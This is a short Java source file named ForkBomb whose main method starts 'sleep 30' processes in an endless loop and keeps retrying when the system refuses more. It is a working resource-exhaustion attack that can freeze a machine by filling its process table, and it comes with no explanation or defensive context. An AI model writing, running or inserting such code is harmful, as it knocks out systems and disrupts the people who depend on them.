public class ForkBomb {
    public static void main(String[] arguments) {
        for (;;) {
            try {
                new ProcessBuilder("sleep", "30").start();
            } catch (Exception refused) {
                Thread.onSpinWait();
            }
        }
    }
}
